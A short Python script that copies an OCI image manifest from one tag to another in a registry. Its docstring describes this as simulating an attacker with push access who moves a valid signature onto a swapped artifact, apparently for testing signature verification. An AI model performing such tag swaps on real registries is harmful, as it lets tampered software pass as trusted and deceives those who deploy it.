"""Copies a manifest from one tag to another in the same repository, as an attacker with push
access would (used to move a valid signature onto a swapped artifact).

usage: copy_tag.py HOST:PORT REPO FROM_TAG TO_TAG   (basic auth from ORAS_USER / ORAS_PASSWORD)
"""

import os
import sys

import requests


def main():
    host, repo, src, dst = sys.argv[1:5]
    auth = (os.environ["ORAS_USER"], os.environ["ORAS_PASSWORD"]) if os.environ.get("ORAS_USER") else None
    media = "application/vnd.oci.image.manifest.v1+json"
    got = requests.get(f"http://{host}/v2/{repo}/manifests/{src}", headers={"Accept": media}, auth=auth, timeout=30)
    got.raise_for_status()
    put = requests.put(
        f"http://{host}/v2/{repo}/manifests/{dst}",
        data=got.content,
        headers={"Content-Type": got.headers.get("Content-Type", media)},
        auth=auth,
        timeout=30,
    )
    put.raise_for_status()


if __name__ == "__main__":
    main()
